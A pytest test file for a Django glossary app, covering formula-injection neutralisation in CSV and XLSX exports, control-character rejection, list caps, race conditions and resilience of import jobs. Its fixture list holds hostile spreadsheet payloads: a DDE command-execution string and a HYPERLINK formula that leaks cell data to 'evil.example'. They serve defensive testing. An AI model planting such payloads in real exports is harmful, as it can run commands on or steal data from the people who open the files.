"""Issue 16, glossary side: formula injection in exports, control characters, list caps, races answered 409,
imports as jobs (broker down, a worker killed, a message delivered twice)."""
from __future__ import annotations

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError
from django.urls import reverse
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from glossary import import_jobs, imports, services
from glossary.exports import neutralise_formula, restore_formula
from glossary.models import Domain, Entry, ImportBatch
from jobs import kinds, runner
from jobs.models import Job
from tests.factories import EntryFactory

PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")',
    "+33 1 23 45 67 89",
    "-ité",
    "@SUM(A1:A9)",
    "'=déjà cité",
    "''+deux apostrophes",
    "'simple citation",
]


# ---- formula injection -------------------------------------------------------------------------------


@given(st.text())
def test_restore_formula_undoes_neutralise_formula_for_any_text(text):
    assert restore_formula(neutralise_formula(text)) == text


def test_a_cell_that_was_not_neutralised_is_read_as_it_is():
    assert restore_formula("'simple citation") == "'simple citation"
    assert restore_formula("=1+1") == "=1+1"


@pytest.fixture
def hostile_entries(db):
    for index, payload in enumerate(PAYLOADS):
        # (" | " separates list items in a cell: a variant cannot hold one, formula or not.)
        listed = payload.replace("|", "/")
        EntryFactory(term=payload, definition=f"{payload} (définition {index})", variants=[listed, f"autre {index}"], contexts=[listed])


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_and_round_trips(hostile_entries):
    content = imports.export_glossary(file_format="csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    for row in rows[1:]:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", cell
    assert "'=cmd|' /C calc'!A0" in {row[0] for row in rows}
    _assert_round_trip(content, "csv")


@pytest.mark.django_db
def test_xlsx_export_writes_strings_never_formulas_and_round_trips(hostile_entries):
    content = imports.export_glossary(file_format="xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert all(str(cell.value)[0] not in "=+-@" for cell in cells)
    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"Cliquez")' in {cell.value for cell in cells}
    _assert_round_trip(content, "xlsx")


def _assert_round_trip(content: bytes, file_format: str) -> None:
    before = sorted(Entry.objects.values_list("term", "definition", "variants", "contexts"))
    Entry.objects.all().delete()
    report = imports.import_file(content=content, file_name=f"export.{file_format}", file_format=file_format)
    assert report.imported and not report.errors
    assert sorted(Entry.objects.values_list("term", "definition", "variants", "contexts")) == before


@pytest.mark.django_db
def test_export_drops_control_characters_stored_before_they_were_refused():
    entry = EntryFactory(term="CAF", definition="Caisse")
    # A row written before the door was closed (SQLite stores a NUL as it is; PostgreSQL never stores one).
    from django.db import connection

    nul = "" if connection.vendor == "postgresql" else "\x00"
    Entry.objects.filter(pk=entry.pk).update(definition=f"Cais{nul}se\x1b d'allocations")
    sheet = openpyxl.load_workbook(io.BytesIO(imports.export_glossary(file_format="xlsx"))).active
    assert sheet["B2"].value == "Caisse d'allocations"
    assert "\x00" not in imports.export_glossary(file_format="csv").decode("utf-8-sig")


# ---- control characters --------------------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("field,value", [("term", "CAF\x01"), ("definition", "Caisse\x00"), ("variants", ["ok", "Ca\x1bf"]), ("source", "\x7f")])
def test_api_refuses_control_characters_with_the_field(api_client, expert, field, value):
    api_client.force_authenticate(expert)
    payload = {"term": "CAF", "definition": "Caisse d'allocations familiales", field: value}
    response = api_client.post("/api/entries/", payload, format="json")
    assert response.status_code == 400
    assert field in response.json()["errors"]
    assert not Entry.objects.exists()


@pytest.mark.django_db
def test_api_refuses_a_lone_surrogate_and_keeps_newlines_and_tabs(api_client, expert):
    api_client.force_authenticate(expert)
    body = '{"term": "CAF\\ud800", "definition": "Caisse"}'
    response = api_client.post("/api/entries/", body, content_type="application/json")
    assert response.status_code == 400 and "U+D800" in str(response.json()["errors"]["term"])
    ok = api_client.post("/api/entries/", {"term": "CAF", "definition": "Caisse\td'allocations\nfamiliales"}, format="json")
    assert ok.status_code == 201


@pytest.mark.django_db
def test_form_refuses_control_characters(expert_client):
    data = {"term": "CAF\x07", "kind": "term", "definition": "Caisse", "status": "draft", "variants": "a\nb\x08"}
    response = expert_client.post(reverse("glossary:entry-create"), data)
    assert response.status_code == 200
    assert "U+0007" in str(response.context["form"].errors["term"])
    assert "U+0008" in str(response.context["form"].errors["variants"])
    assert not Entry.objects.exists()


@pytest.mark.django_db
def test_services_refuse_control_characters_for_every_caller():
    with pytest.raises(ValidationError) as info:
        services.entry_create(term="CAF", definition="Caisse", contexts=["ok", "bad\x02"])
    assert "contexts" in info.value.message_dict
    with pytest.raises(ValidationError):
        services.domain_get_or_create(name="Soc\x00ial")


# ---- list caps -----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_lists_are_capped_per_entry_with_a_clear_message(settings):
    settings.ENTRY_MAX_LIST_ITEMS = 200
    with pytest.raises(ValidationError) as info:
        services.entry_build(term="A", definition="B", variants=[f"v{i}" for i in range(50_000)])
    assert "Au plus 200" in str(info.value.message_dict["variants"])
    # Repeats collapse first (in linear time), so 50,000 copies of one variant are one variant.
    assert services.entry_build(term="A", definition="B", variants=["même"] * 50_000).variants == ["même"]


@pytest.mark.django_db
def test_an_import_cannot_grow_an_entry_past_the_cap_by_repeating_it(settings):
    settings.ENTRY_MAX_LIST_ITEMS = 3
    content = "term,definition,variants\n" + "".join(f"A,B,v{i}a | v{i}b\n" for i in range(3))
    report = imports.import_file(content=content.encode(), file_name="g.csv", file_format="csv")
    assert [error.line for error in report.errors] == [3, 4] and "plus de 3" in report.errors[0].reason
    assert not Entry.objects.exists()


# ---- races ---------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_identical_creates_at_once_answer_409(api_client, expert, monkeypatch):
    api_client.force_authenticate(expert)
    real_check = services._check_against_database

    def other_request_saves_first(entry):
        real_check(entry)  # passes: nothing there yet
        Entry.objects.create(term=entry.term, definition=entry.definition)  # the other request wins the race

    monkeypatch.setattr(services, "_check_against_database", other_request_saves_first)
    response = api_client.post("/api/entries/", {"term": "CAF", "definition": "Caisse"}, format="json")
    assert response.status_code == 409
    assert response.json()["code"] == "duplicate" and "Doublon" in response.json()["reason"]
    assert Entry.objects.count() == 1


@pytest.mark.django_db
def test_identical_creates_at_once_in_the_form_show_a_form_error(expert_client, monkeypatch):
    real_check = services._check_against_database

    def other_request_saves_first(entry):
        real_check(entry)
        Entry.objects.create(term=entry.term, definition=entry.definition)

    monkeypatch.setattr(services, "_check_against_database", other_request_saves_first)
    response = expert_client.post(reverse("glossary:entry-create"), {"term": "CAF", "kind": "term", "definition": "Caisse", "status": "draft"})
    assert response.status_code == 200 and "Doublon" in str(response.context["form"].non_field_errors())


@pytest.mark.django_db
def test_delete_during_edit_answers_409_in_the_api_and_a_form_error_in_the_ui(api_client, expert, expert_client, monkeypatch):
    from glossary import api, views

    entry = EntryFactory(term="CAF", definition="Caisse")
    real_get_object = api.EntryViewSet.get_object

    def deleted_meanwhile(self):
        found = real_get_object(self)
        Entry.objects.filter(pk=found.pk).delete()
        return found

    monkeypatch.setattr(api.EntryViewSet, "get_object", deleted_meanwhile)
    api_client.force_authenticate(expert)
    response = api_client.patch(f"/api/entries/{entry.pk}/", {"definition": "Autre"}, format="json")
    assert response.status_code == 409 and response.json()["code"] == "gone"

    entry = EntryFactory(term="URSSAF", definition="Union")
    real_entry_or_404 = views._entry_or_404

    def ui_deleted_meanwhile(pk):
        found = real_entry_or_404(pk)
        Entry.objects.filter(pk=pk).delete()
        return found

    monkeypatch.setattr(views, "_entry_or_404", ui_deleted_meanwhile)
    data = {"term": "URSSAF", "kind": "term", "definition": "Autre", "status": "draft", "revision": 1}
    page = expert_client.post(reverse("glossary:entry-edit", args=[entry.pk]), data)
    assert page.status_code == 200 and "supprimée" in str(page.context["form"].non_field_errors())


@pytest.mark.django_db
def test_a_domain_created_concurrently_is_looked_up(monkeypatch):
    real_lookup = services._domain_named
    calls = []

    def other_import_creates_it_first(name):
        calls.append(name)
        if len(calls) == 1:
            Domain.objects.create(name="Social", slug="social")
            return None
        return real_lookup(name)

    monkeypatch.setattr(services, "_domain_named", other_import_creates_it_first)
    report = imports.import_file(content=b"term,definition,domain\nCAF,Caisse,Social\n", file_name="g.csv", file_format="csv")
    assert report.imported
    assert Domain.objects.count() == 1 and Entry.objects.get().domain.name == "Social"


@pytest.mark.django_db
def test_an_import_that_meets_a_concurrent_create_plans_again(monkeypatch):
    real_analyse = imports._analyse
    calls = []

    def same_entry_created_after_the_plan(**kwargs):
        plan = real_analyse(**kwargs)
        calls.append(1)
        if len(calls) == 1:
            Entry.objects.create(term="CAF", definition="Caisse")  # another import, between the plan and the write
        return plan

    monkeypatch.setattr(imports, "_analyse", same_entry_created_after_the_plan)
    report = imports.import_file(content=b"term,definition\nCAF,Caisse\nARS,Agence\n", file_name="g.csv", file_format="csv")
    assert report.imported and (report.created, report.unchanged) == (1, 1)
    assert Entry.objects.count() == 2


@pytest.mark.django_db
def test_an_import_that_keeps_meeting_conflicts_fails_cleanly(monkeypatch, api_client, expert, django_capture_on_commit_callbacks):
    def always_conflicts(plan, **kwargs):
        raise IntegrityError("UNIQUE constraint failed")

    monkeypatch.setattr(imports, "_apply", always_conflicts)
    api_client.force_authenticate(expert)
    content = b"term,definition\nCAF,Caisse\n"
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = api_client.post("/api/imports/", {"file": SimpleUploadedFile("g.csv", content), "format": "csv"}, format="multipart")
    assert response.status_code == 409 and "modifié pendant l'import" in response.json()["reason"]
    with django_capture_on_commit_callbacks(execute=True):
        batch = imports.import_enqueue(content=content, file_name="g.csv", file_format="csv", options={}, user=expert)
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.FAILED and "modifié pendant l'import" in batch.error
    assert not Entry.objects.exists()


# ---- an import is a job (kind "import"): broker down, worker killed, message delivered twice ---------------


def _queued_batch(content: bytes = b"term,definition\nCAF,Caisse\n") -> ImportBatch:
    """A batch queued as the import page queues it, its message not sent (no on-commit callback runs here)."""
    return imports.import_enqueue(content=content, file_name="g.csv", file_format="csv", options={})


@pytest.mark.django_db
def test_broker_down_at_enqueue_fails_the_job_and_the_batch_shows_it(monkeypatch, client, expert, django_capture_on_commit_callbacks):
    from glossary import tasks

    def broker_down(*args, **kwargs):
        raise ConnectionRefusedError("broker down")

    monkeypatch.setattr(tasks.import_run, "delay", broker_down)
    with django_capture_on_commit_callbacks(execute=True):
        batch = imports.import_enqueue(content=b"term,definition\nCAF,Caisse\n", file_name="g.csv", file_format="csv", options={}, user=expert)
    batch = ImportBatch.objects.select_related("job").get(pk=batch.pk)
    assert batch.job.kind == "import" and batch.job.status == Job.Status.FAILED and batch.job.lock is None
    assert batch.status == ImportBatch.Status.FAILED and "File d'attente indisponible" in batch.error and "broker down" in batch.error
    client.force_login(expert)
    page = client.get(reverse("glossary:import-detail", args=[batch.pk]))
    assert "broker down" in page.content.decode() and page.context["is_over"]
    assert not Entry.objects.exists()


@pytest.mark.django_db
def test_a_worker_killed_mid_import_is_restarted_by_the_sweep_and_imports_once(django_capture_on_commit_callbacks):
    batch = _queued_batch()
    assert runner.job_claim(job=batch.job, worker="celery@killed")  # then the worker died: its transaction wrote nothing
    Job.objects.filter(pk=batch.job.pk).update(heartbeat_at=timezone.now() - import_jobs.stale_after() + timedelta(minutes=1))
    assert runner.jobs_sweep_stale() == 0  # still within the import's time limit
    Job.objects.filter(pk=batch.job.pk).update(heartbeat_at=timezone.now() - import_jobs.stale_after() - timedelta(minutes=1))
    with django_capture_on_commit_callbacks(execute=True):  # sent again, run by the eager worker
        assert runner.jobs_sweep_stale() == 1
    batch = ImportBatch.objects.select_related("job").get(pk=batch.pk)
    assert batch.status == ImportBatch.Status.IMPORTED and batch.job.attempts == 2 and "celery@killed" in batch.job.log_text
    assert Entry.objects.count() == 1 and Entry.objects.get().import_batch == batch


@pytest.mark.django_db
def test_an_import_killed_too_often_is_failed_with_the_reason_not_skipped():
    batch = _queued_batch()
    Job.objects.filter(pk=batch.job.pk).update(
        status=Job.Status.RUNNING, attempts=kinds.get("import").max_attempts, worker="celery@killed",
        heartbeat_at=timezone.now() - import_jobs.stale_after() - timedelta(minutes=1),
    )
    assert runner.jobs_sweep_stale() == 1
    batch = ImportBatch.objects.select_related("job").get(pk=batch.pk)
    assert batch.status == ImportBatch.Status.FAILED and "celery@killed" in batch.error
    assert not Entry.objects.exists()


@pytest.mark.django_db
def test_a_restarted_worker_restarts_the_import_it_held():
    from jobs.tasks import _sweep_jobs_of_restarted_worker

    batch = _queued_batch()
    assert runner.job_claim(job=batch.job, worker="celery@box")
    _sweep_jobs_of_restarted_worker(sender=type("Worker", (), {"hostname": "celery@box"})())
    batch = ImportBatch.objects.select_related("job").get(pk=batch.pk)
    assert batch.status == ImportBatch.Status.QUEUED and "celery@box" in batch.job.log_text


@pytest.mark.django_db
def test_a_message_delivered_twice_imports_once():
    batch = _queued_batch()
    first = imports.import_batch_run(batch_id=batch.pk, worker="celery@a")
    late = imports.import_batch_run(batch_id=batch.pk, worker="celery@b")  # the same message, delivered again
    assert first.status == late.status == ImportBatch.Status.IMPORTED and late.job.attempts == 1 and late.job.worker == "celery@a"
    assert Entry.objects.count() == 1
    # Delivered again to another worker while the first one runs it: ignored, and said in the job's log.
    running = _queued_batch(b"term,definition\nARS,Agence\n")
    assert runner.job_claim(job=running.job, worker="celery@a")
    again = imports.import_batch_run(batch_id=running.pk, worker="celery@b")
    assert again.status == ImportBatch.Status.RUNNING and again.job.worker == "celery@a" and "ignoré" in again.job.log_text
    assert Entry.objects.count() == 1


@pytest.mark.django_db
def test_a_redelivered_message_of_an_import_whose_worker_died_restarts_it():
    batch = _queued_batch()
    assert runner.job_claim(job=batch.job, worker="celery@w1")
    Job.objects.filter(pk=batch.job.pk).update(heartbeat_at=timezone.now() - import_jobs.stale_after() - timedelta(minutes=1))
    batch = imports.import_batch_run(batch_id=batch.pk, worker="celery@w2")
    assert (batch.status, batch.job.attempts, batch.job.worker) == (ImportBatch.Status.IMPORTED, 2, "celery@w2")
    assert Entry.objects.count() == 1


@pytest.mark.django_db
def test_an_attempt_taken_over_by_a_later_one_writes_nothing(monkeypatch):
    batch = _queued_batch()
    real_analyse = imports._analyse

    def taken_over_meanwhile(**kwargs):
        plan = real_analyse(**kwargs)
        Job.objects.filter(pk=batch.job.pk).update(attempts=2, worker="celery@later")  # swept, then claimed again
        return plan

    monkeypatch.setattr(imports, "_analyse", taken_over_meanwhile)
    imports.import_batch_run(batch_id=batch.pk, worker="celery@first")
    batch = ImportBatch.objects.select_related("job").get(pk=batch.pk)
    assert (batch.status, batch.job.attempts, batch.job.worker) == (ImportBatch.Status.RUNNING, 2, "celery@later")
    assert not Entry.objects.exists() and batch.created_count == 0


@pytest.mark.django_db
def test_batches_are_found_by_the_status_they_show():
    from tests.factories import import_batch

    batches = {status: import_batch(status=status) for status in ImportBatch.Status.values}
    batches["cancelled"] = import_batch(status=Job.Status.CANCELLED)
    without_options = import_batch(status=ImportBatch.Status.IMPORTED)
    ImportBatch.objects.filter(pk=without_options.pk).update(options={})
    for status in ImportBatch.Status.values:
        expected = {batch.pk for batch in ImportBatch.objects.select_related("job") if batch.status == status}
        assert {batch.pk for batch in ImportBatch.objects.with_status(status)} == expected and expected
    assert without_options.pk in {batch.pk for batch in ImportBatch.objects.with_status(ImportBatch.Status.IMPORTED)}
    assert set(ImportBatch.objects.with_status("queued", "running").values_list("pk", flat=True)) == {batches["queued"].pk, batches["running"].pk}


@pytest.mark.django_db
def test_forgotten_previews_are_deleted_on_a_schedule():
    from django_celery_beat.models import PeriodicTask

    assert PeriodicTask.objects.filter(task="glossary.tasks.delete_forgotten_uploads", enabled=True).exists()
    assert not PeriodicTask.objects.filter(task="glossary.tasks.fail_stale_imports").exists()  # the jobs' sweep does it


def test_memory_cap_turns_a_runaway_allocation_into_memory_error():
    with pytest.raises(MemoryError):
        with import_jobs.memory_cap(64 * 1024 * 1024):
            bytearray(1024 * 1024 * 1024)
    assert len(bytearray(256 * 1024 * 1024)) == 256 * 1024 * 1024  # the limit is lifted afterwards


@pytest.mark.django_db
def test_a_worker_out_of_memory_fails_the_batch_with_a_reason(monkeypatch):
    batch = _queued_batch()

    def greedy(**kwargs):
        raise MemoryError()

    monkeypatch.setattr(imports, "_analyse", greedy)
    batch = imports.import_batch_run(batch_id=batch.pk)
    assert batch.status == ImportBatch.Status.FAILED and "trop de mémoire" in batch.error
